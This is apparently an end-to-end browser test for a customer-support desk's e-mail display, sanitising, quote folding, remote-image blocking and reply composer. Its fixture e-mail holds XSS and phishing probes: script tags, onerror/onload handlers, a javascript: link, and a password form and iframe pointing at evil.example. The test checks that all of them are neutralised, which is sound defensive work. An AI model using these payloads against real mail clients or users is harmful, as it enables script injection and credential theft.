// E-mail in the agent desk, end to end in headless Chromium against the real binary.
//
// The e-mail connector is not part of this test: Ann's conversation starts with an
// SMS (the real sms-twilio connector), then two e-mails are written into it the way
// the connector's ingest stores them — timeline events on channel `email` with the
// raw HTML in `data.metadata.html_body` — straight into the server's SQLite file
// (with Debian's `sqlite3`), plus an uploaded picture bound to the mail as its inline
// `cid:` image. Everything the desk shows is then the host's real read path: the
// sanitizing, the quote split, the signed frame and its policy. The reply channels
// are answered with an e-mail channel (as the host will once the connector is
// installed) and the send is caught before the host, which has no e-mail plugin here,
// so the test reads exactly what the composer sends.
//
// - the HTML mail shows in a sandboxed frame; the script, the onerror handler and the
//   javascript: link in it did nothing (`window.__pwned` stays unset, in the desk and
//   in the frame), the form and the iframe are gone, the style escape is gone;
// - the quoted history is folded and unfolds; the inline picture shows from the
//   mail's file; the remote banner is not fetched until "Load images (1)", then is;
// - the automatic reply is muted with its label, and the connector's warning shows;
// - the composer: To is Ann's address, the subject is "Re: Order 1042 damaged" (not
//   "Re: Re:"), "Cc all (2)" copies who Ann copied, a Bcc, a file chip, "Include
//   quoted message" on, my signature shown and edited in its dialog; what is sent.
// Screenshots go to tests/browser/artifacts/email-*.png.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';

import { launch, screenshot, unnamedControls, watch } from '../lib/browser.mjs';
import { png } from '../lib/graph.mjs';
import { api, createAgent, login, signedTwilioSms, startServer, waitFor } from '../lib/server.mjs';

const run = promisify(execFile);

const AGENT = { email: 'wes@email.test', password: 'wes-password-1', name: 'Wes Agent' };
const ANN = { phone: '+15550142424', email: 'ann@example.com', name: 'Ann Example' };
const SIGNATURE = 'Wes Agent\nShop Support';
const LOGO = png(64, 64, (x, y) => ((x - 32) ** 2 + (y - 32) ** 2 < 700 ? [122, 79, 214] : [255, 255, 255]));
const BANNER = png(120, 40, (x) => [240 - x, 120, 40 + x]);

let server;
let browser;
let admin;
let token;
let remote; // the "internet": counts what is fetched from it
let remoteBase;
const remoteHits = [];

before(async () => {
  remote = createServer((req, res) => {
    remoteHits.push(req.url);
    res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    res.end(BANNER);
  });
  await new Promise((resolve) => remote.listen(0, '127.0.0.1', resolve));
  remoteBase = `http://127.0.0.1:${remote.address().port}`;
  server = await startServer();
  browser = await launch();
  admin = await login(server.base, server.adminEmail, server.adminPassword);
  await createAgent(server.base, admin, AGENT);
  token = await login(server.base, AGENT.email, AGENT.password);
});

after(async () => {
  await browser?.close();
  await server?.stop();
  await new Promise((resolve) => remote?.close(resolve));
});

const q = (v) => (v === null || v === undefined ? 'NULL' : typeof v === 'number' ? String(v) : `'${String(v).replace(/'/g, "''")}'`);

/** Runs SQL on the server's SQLite file (WAL: the server keeps running). */
async function sql(statement) {
  const db = path.join(server.dataDir, 'switchboard.db');
  const { stdout } = await run('sqlite3', ['-cmd', '.timeout 10000', db, statement]);
  return stdout.trim();
}

/** Stores an inbound e-mail in a conversation the way the connector's ingest would. */
async function storeEmail({ contactId, conversationId, at, body, metadata, attachments = [] }) {
  const id = randomUUID();
  await sql(`INSERT INTO timeline_event (id, contact_id, conversation_id, channel, plugin_id, direction, kind, body,
      attachments, identity_kind, identity_value, provider_id, sent_at, occurred_at, data)
    VALUES (${q(id)}, ${q(contactId)}, ${q(conversationId)}, 'email', 'email', 'in', 'message', ${q(body)},
      ${q(JSON.stringify(attachments))}, 'email', ${q(ANN.email)}, ${q(`<${id}@mail.example.com>`)}, ${at}, ${at},
      ${q(JSON.stringify({ metadata }))});
    UPDATE conversation SET last_channel = 'email', last_plugin_id = 'email', updated_at = ${at} WHERE id = ${q(conversationId)};`);
  return id;
}

function mainHtml() {
  return `<!DOCTYPE html><html><head><style>body { display: none }</style>
<script>window.__pwned = 'script'</script><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="window.top.__pwned = 'onload'"><div dir="ltr">
<p style="color:#17803d; position:fixed; top:0; left:0; right:0; z-index:99999">Hello, the parcel for <b>order 1042</b> arrived <u>damaged</u>. Photos below.</p>
<p><img src="cid:logo@mail.example.com" alt="Parcel photo" width="64" height="64"> <img src="${remoteBase}/banner.png?to=ann" alt="Shop banner" width="120" height="40"></p>
<p><img src="x" onerror="window.top.__pwned = 'onerror'" alt="broken"> <a href="javascript:window.top.__pwned = 'link'">Click me</a> · <a href="https://example.com/track/1042">Tracking page</a></p>
<form action="https://evil.example/login"><input name="password" placeholder="Your password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="window.top.__pwned = 'svg'"></svg>
</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 1 Dec 2025 at 10:00, Shop Support &lt;help@shop.example&gt; wrote:<br></div>
<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">Could you send us a photo of the parcel?<br>
<div class="gmail_quote"><div class="gmail_attr">On Sun, 30 Nov 2025, Ann Example wrote:</div><blockquote class="gmail_quote">My parcel arrived damaged, what now?</blockquote></div></blockquote></div>
</body></html>`;
}

const MAIN_TEXT = 'Hello, the parcel for order 1042 arrived damaged. Photos below.\n\n'
  + 'On Mon, 1 Dec 2025 at 10:00, Shop Support <help@shop.example> wrote:\n'
  + '> Could you send us a photo of the parcel?\n> > My parcel arrived damaged, what now?\n';

async function signIn(p) {
  await p.goto(`${server.base}/`);
  await p.getByTestId('login-email').fill(AGENT.email);
  await p.getByTestId('login-password').fill(AGENT.password);
  await p.getByTestId('login-submit').click();
  await p.getByTestId('connection-state').filter({ hasText: /^connected$/ }).waitFor({ timeout: 15_000 });
}

async function emailFrame(p, card) {
  const handle = await card.getByTestId('email-frame').elementHandle();
  const frame = await handle.contentFrame();
  await frame.waitForFunction(() => document.readyState === 'complete' && document.getElementById('sb-visible'));
  return frame;
}

test('an e-mail in the desk: sandboxed, quote folded, images on request, and the e-mail composer', async () => {
  // Tall enough to show a whole mail above the e-mail composer in the screenshots.
  const context = await browser.newContext({ viewport: { width: 1360, height: 1400 } });
  const p = await context.newPage();
  const watcher = watch(p);
  try {
    await scenario(p, watcher);
  } catch (err) {
    await screenshot(p, 'email-failure').catch(() => {});
    err.message += `\npage problems: ${JSON.stringify(watcher.problems(), null, 1)}`;
    const warnings = server.output().split('\n').filter((l) => /WARN|ERROR/.test(l)).slice(-10);
    err.message += `\nserver warnings:\n${warnings.join('\n')}`;
    throw err;
  } finally {
    await context.close();
  }
});

async function scenario(p, watcher) {
  await api(server.base, token, 'PUT', '/api/v1/agents/me/signature', { signature: SIGNATURE });
  await signIn(p);
  await p.getByTestId('presence-select').selectOption('available');

  // Ann texts first; her e-mails join the same conversation.
  await signedTwilioSms(server.base, { from: ANN.phone, body: 'I sent you an e-mail about my parcel' });
  const contactId = await waitFor(async () => {
    const { contacts } = await api(server.base, admin, 'GET', `/api/v1/contacts?identity=${encodeURIComponent(`phone:${ANN.phone}`)}`);
    return contacts?.[0]?.id;
  }, { what: "Ann's contact" });
  await api(server.base, admin, 'PATCH', `/api/v1/contacts/${contactId}`, { display_name: ANN.name });
  await api(server.base, admin, 'POST', `/api/v1/contacts/${contactId}/identities`, { kind: 'email', value: ANN.email });
  const { events } = await api(server.base, admin, 'GET', `/api/v1/contacts/${contactId}/timeline`);
  const conversationId = events.find((e) => e.conversation_id).conversation_id;

  // The mail's inline picture is a file of the host, as the connector would leave it.
  const upload = await fetch(`${server.base}/api/v1/attachments?filename=parcel.png`, {
    method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'image/png' }, body: LOGO,
  }).then((r) => r.json());
  const logo = upload.attachment;

  const t0 = Date.now();
  await storeEmail({
    contactId, conversationId, at: t0 + 1,
    body: 'I am out of the office until Monday and will read your message then.\n-- \nAnn Example\nExample Ltd.',
    metadata: {
      subject: 'Automatic reply: Order 1042',
      to: ['help@shop.example'],
      automatic: 'auto_reply',
      problem: 'an attachment larger than 25 MB was left out',
    },
  });
  const mainId = await storeEmail({
    contactId, conversationId, at: t0 + 2,
    body: MAIN_TEXT,
    metadata: {
      subject: 'Re: Order 1042 damaged',
      from: { name: ANN.name, address: ANN.email },
      to: ['help@shop.example'],
      cc: [{ name: 'Ben Example', address: 'ben@example.com' }, 'claims@insurer.example'],
      in_reply_to: '<reply-1@shop.example>',
      html_body: mainHtml(),
    },
    attachments: [{ id: logo.id, url: `/api/v1/attachments/${logo.id}`, status: 'stored', content_type: 'image/png', filename: 'parcel.png', size: LOGO.length }],
  });
  await sql(`UPDATE attachment SET event_id = ${q(mainId)}, content_id = '<logo@mail.example.com>', direction = 'in' WHERE id = ${q(logo.id)};`);

  // The host's answers the desk asks for while no e-mail plugin is installed here.
  await p.route('**/api/v1/conversations/*/reply-channels', (route) => route.fulfill({
    json: {
      channels: [
        { plugin_id: 'email', channel: 'email', display_name: 'E-mail', identity: `email:${ANN.email}`, allowed: true, reason: null },
        { plugin_id: 'sms-twilio', channel: 'sms', display_name: 'SMS', identity: `phone:${ANN.phone}`, allowed: true, reason: null },
      ],
      default: 'email',
    },
  }));
  await p.route('**/api/v1/conversations/*/window*', (route) => route.fulfill({
    json: { plugin_id: 'email', channel: 'email', has_window: false, open: true, human_agent: false, templates: false },
  }));
  const sent = [];
  await p.route('**/api/v1/conversations/*/messages', async (route) => {
    if (route.request().method() !== 'POST') return route.continue();
    sent.push(route.request().postDataJSON());
    return route.fulfill({ status: 202, json: { event: { id: randomUUID(), kind: 'message', direction: 'out' }, outbox: { status: 'pending' } } });
  });

  const offer = p.getByTestId('offer').first();
  await offer.waitFor({ timeout: 20_000 });
  await offer.getByTestId('offer-accept').click();
  await p.getByTestId('customer-name').filter({ hasText: ANN.name }).waitFor({ timeout: 15_000 });

  // ------------------------------------------------------------ the HTML mail
  const timeline = p.getByTestId('timeline');
  const mails = timeline.locator('[data-testid="timeline-event"][data-channel="email"]');
  await mails.nth(1).waitFor();
  assert.equal(await mails.count(), 2);
  const card = mails.nth(1);
  assert.equal(await card.getByTestId('email-subject').textContent(), 'Re: Order 1042 damaged');
  assert.equal(await card.getByTestId('email-addresses').textContent(),
    'From: Ann Example <ann@example.com>To: help@shop.exampleCc: Ben Example <ben@example.com>, claims@insurer.example');
  const frameEl = card.getByTestId('email-frame');
  assert.equal(await frameEl.getAttribute('sandbox'), 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
  const src = await frameEl.getAttribute('src');
  assert.match(src, /^\/email\/[\w-]+\?expires=\d+&sig=[0-9a-f]{64}$/);
  let frame = await emailFrame(p, card);

  // The new part shows; what could run or phish did not make it.
  const visible = await frame.evaluate(() => document.getElementById('sb-visible').textContent);
  assert.match(visible, /Hello, the parcel for order 1042 arrived damaged/);
  assert.match(visible, /Tracking page/);
  const inside = await frame.evaluate(() => ({
    scripts: document.querySelectorAll('script, iframe, form, input, svg, meta[http-equiv], object, embed').length,
    handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
    jsLinks: [...document.links].filter((a) => !/^https?:/.test(a.href)).map((a) => a.href),
    links: [...document.links].map((a) => [a.href, a.target, a.rel]),
    fixed: [...document.querySelectorAll('#sb-visible *')].filter((el) => ['fixed', 'absolute'].includes(getComputedStyle(el).position)).length,
    green: getComputedStyle(document.querySelector('#sb-visible p')).color,
    pwned: window.__pwned ?? null,
  }));
  assert.deepEqual(inside, {
    scripts: 0, handlers: [], jsLinks: [], fixed: 0,
    links: [['https://example.com/track/1042', '_blank', 'noopener noreferrer nofollow']],
    green: 'rgb(23, 128, 61)', pwned: null,
  });
  assert.equal(await p.evaluate(() => window.__pwned ?? null), null, 'nothing in the mail ran in the desk');

  // The quote is folded.
  const quoted = () => frame.evaluate(() => {
    const q = document.getElementById('sb-quoted');
    return { hidden: q.hidden, shown: q.getBoundingClientRect().height > 0, text: q.textContent };
  });
  let state = await quoted();
  assert.equal(state.hidden, true);
  assert.equal(state.shown, false);
  assert.match(state.text, /Could you send us a photo[\s\S]*My parcel arrived damaged, what now\?/, 'every level of the history is kept');
  assert.doesNotMatch(visible, /Could you send us a photo/);

  // The inline picture shows from the mail's file; the remote banner waits.
  await frame.waitForFunction(() => {
    const img = document.querySelector('img[data-cid]');
    return img && img.src.startsWith('blob:') && img.complete && img.naturalWidth === 64;
  }, null, { timeout: 15_000 });
  assert.equal(await card.getByTestId('timeline-attachment').count(), 0, 'the inline picture is not listed again as a file');
  const banner = await frame.evaluate(() => {
    const img = document.querySelector('img[alt="Shop banner"]');
    return { src: img.getAttribute('src'), waiting: img.dataset.remoteSrc };
  });
  assert.deepEqual(banner, { src: null, waiting: `${remoteBase}/banner.png?to=ann` });
  const loadImages = card.getByTestId('email-load-images');
  assert.equal(await loadImages.textContent(), 'Load images (1)');
  assert.deepEqual(remoteHits, [], 'nothing was fetched from the internet');
  const folded = await frameEl.boundingBox();
  await card.scrollIntoViewIfNeeded();
  assert.deepEqual(await unnamedControls(p), [], 'controls without an accessible name (e-mail)');
  await screenshot(p, 'email-timeline');

  // Unfold the quote: it shows, and the frame grows to hold it.
  const toggle = card.getByTestId('email-quote-toggle');
  assert.equal(await toggle.getAttribute('aria-expanded'), 'false');
  await toggle.click();
  assert.equal(await toggle.textContent(), 'Hide quoted text');
  state = await quoted();
  assert.equal(state.hidden, false);
  assert.equal(state.shown, true);
  await waitFor(async () => (await frameEl.boundingBox()).height > folded.height + 40, { what: 'the frame to grow' });

  // Load images: the banner is fetched now, and the quote stays open.
  await loadImages.click();
  await waitFor(() => remoteHits.length > 0, { what: 'the banner to be fetched' });
  assert.deepEqual(remoteHits, ['/banner.png?to=ann']);
  assert.equal(await card.getByTestId('email-load-images').count(), 0);
  assert.match(await frameEl.getAttribute('src'), /&images=1$/);
  frame = await emailFrame(p, card);
  await frame.waitForFunction(() => {
    const img = document.querySelector('img[alt="Shop banner"]');
    return img.complete && img.naturalWidth === 120;
  }, null, { timeout: 15_000 });
  await frame.waitForFunction(() => document.querySelector('img[data-cid]')?.naturalWidth === 64);
  assert.equal((await quoted()).hidden, false, 'the quote stays open across the reload');
  assert.equal(await frame.evaluate(() => window.__pwned ?? null), null);
  await card.scrollIntoViewIfNeeded();
  await screenshot(p, 'email-expanded');

  // ------------------------------------------------------------ the automatic reply
  const auto = mails.nth(0);
  assert.match(await auto.getAttribute('class'), /tl-email-automatic/);
  assert.equal(await auto.getByTestId('email-automatic').textContent(), 'Automatic reply');
  assert.match(await auto.getByTestId('email-problem').textContent(), /Only partly read: an attachment larger than 25 MB was left out/);
  assert.equal(await auto.getByTestId('email-text').textContent(), 'I am out of the office until Monday and will read your message then.');
  const autoQuoted = auto.getByTestId('email-quoted');
  assert.equal(await autoQuoted.isVisible(), false, 'the signature is folded');
  await auto.getByTestId('email-quote-toggle').click();
  assert.equal(await autoQuoted.textContent(), '-- \nAnn Example\nExample Ltd.');

  // A new message redraws the timeline: the frame comes back as the agent left it.
  await signedTwilioSms(server.base, { from: ANN.phone, body: 'Did you get the photos?' });
  await timeline.getByText('Did you get the photos?').waitFor({ timeout: 15_000 });
  frame = await emailFrame(p, card);
  await frame.waitForFunction(() => !document.getElementById('sb-quoted').hidden
    && document.querySelector('img[alt="Shop banner"]').naturalWidth === 120);

  // ------------------------------------------------------------ the composer
  assert.equal(await p.getByTestId('reply-channel').inputValue(), 'email');
  const fields = p.getByTestId('email-fields');
  await fields.waitFor();
  assert.equal(await p.getByTestId('email-to').textContent(), ANN.email);
  assert.equal(await p.getByTestId('email-subject-input').inputValue(), 'Re: Order 1042 damaged', 'no "Re: Re:"');
  assert.equal(await p.getByTestId('email-include-quote').isChecked(), true);
  await p.getByTestId('email-signature').filter({ hasText: SIGNATURE }).waitFor();
  const ccAll = p.getByTestId('email-cc-all');
  assert.equal(await ccAll.textContent(), 'Cc all (2)');
  await ccAll.click();
  assert.equal(await p.getByTestId('email-cc').inputValue(), 'Ben Example <ben@example.com>, claims@insurer.example');
  await p.getByTestId('email-bcc').fill('records@shop.example');
  await p.getByTestId('reply-body').fill('Hello Ann,\n\nSorry about the parcel: a replacement is on its way, and you can keep the damaged one.');
  await p.getByTestId('reply-attach-input').setInputFiles({ name: 'return-label.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4\n% return label\n') });
  const chip = p.locator('[data-testid="reply-attachment"][data-state="ready"]');
  await chip.waitFor();
  assert.match(await chip.textContent(), /return-label\.pdf/);

  // Edit the signature in its dialog.
  await p.getByTestId('email-signature-edit').click();
  const input = p.getByTestId('signature-input');
  await input.waitFor();
  await waitFor(async () => (await input.inputValue()) === SIGNATURE, { what: 'the signature in the dialog' });
  await input.fill(`${SIGNATURE}\nWe answer within one working day`);
  await screenshot(p, 'email-signature-dialog');
  await p.getByTestId('signature-save').click();
  await p.getByTestId('email-signature').filter({ hasText: 'We answer within one working day' }).waitFor();
  const kept = await api(server.base, token, 'GET', '/api/v1/agents/me/signature');
  assert.equal(kept.signature, `${SIGNATURE}\nWe answer within one working day`);
  assert.deepEqual(await unnamedControls(p), [], 'controls without an accessible name (e-mail composer)');
  await p.getByTestId('email-fields').scrollIntoViewIfNeeded();
  await screenshot(p, 'email-composer');

  // A Bcc that is not an address is refused in the composer, before anything is sent.
  await p.getByTestId('email-bcc').fill('records at shop');
  await p.getByTestId('reply-send').click();
  await p.getByTestId('reply-error').filter({ hasText: 'Bcc: “records at shop” is not an e-mail address.' }).waitFor();
  assert.equal(sent.length, 0);
  await p.getByTestId('email-bcc').fill('records@shop.example');
  await p.getByTestId('reply-send').click();
  await waitFor(() => sent.length === 1, { what: 'the reply to be sent' });
  assert.deepEqual(sent[0], {
    body: 'Hello Ann,\n\nSorry about the parcel: a replacement is on its way, and you can keep the damaged one.',
    attachments: [sent[0].attachments[0]],
    channel: 'email',
    email: {
      subject: 'Re: Order 1042 damaged',
      cc: ['ben@example.com', 'claims@insurer.example'],
      bcc: ['records@shop.example'],
      include_quote: true,
    },
  });
  assert.match(sent[0].attachments[0], /^[\w-]+$/);
  // Ready for the next one.
  await waitFor(async () => (await p.getByTestId('email-cc').inputValue()) === '', { what: 'the composer to reset' });
  assert.equal(await p.getByTestId('reply-body').inputValue(), '');
  assert.equal(await p.getByTestId('email-subject-input').inputValue(), 'Re: Order 1042 damaged');

  // Another channel hides the e-mail fields.
  await p.getByTestId('reply-channel').selectOption('sms-twilio');
  assert.equal(await fields.isVisible(), false);
  await p.getByTestId('reply-channel').selectOption('email');

  // On a phone the mail and the composer fit.
  await p.setViewportSize({ width: 390, height: 844 });
  await card.scrollIntoViewIfNeeded();
  const width = await p.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 390, `no horizontal scrolling at phone size (page is ${width}px wide)`);
  await screenshot(p, 'email-phone');

  // The frame's address is signed: a forged one is refused, and so is a text event.
  const forged = await fetch(`${server.base}${src.replace(/sig=[0-9a-f]/, (m) => (m.endsWith('0') ? 'sig=1' : 'sig=0'))}`);
  assert.equal(forged.status, 403);
  const page = await fetch(`${server.base}${src}`);
  assert.equal(page.status, 200);
  const csp = page.headers.get('content-security-policy');
  assert.match(csp, /script-src 'none'/);
  assert.doesNotMatch(csp, /https:/, 'remote images only with images=1');
  assert.match((await fetch(`${server.base}${src}&images=1`)).headers.get('content-security-policy'), /img-src data: blob: https: http:/);

  assert.deepEqual(watcher.problems(), [], 'nothing failed on the page');
}
